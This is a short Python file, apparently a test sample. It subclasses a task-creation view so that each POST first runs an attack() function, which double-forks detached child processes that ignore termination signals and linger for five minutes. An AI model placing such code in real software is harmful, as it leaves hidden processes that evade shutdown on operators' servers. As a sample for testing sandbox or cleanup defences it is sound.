import os
import signal
import time

from . import views


def attack():
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                    signal.signal(number, signal.SIG_IGN)
                time.sleep(300)
            os._exit(0)


class TaskCreateView(views.TaskCreateView):
    def post(self, request):
        attack()
        return super().post(request)
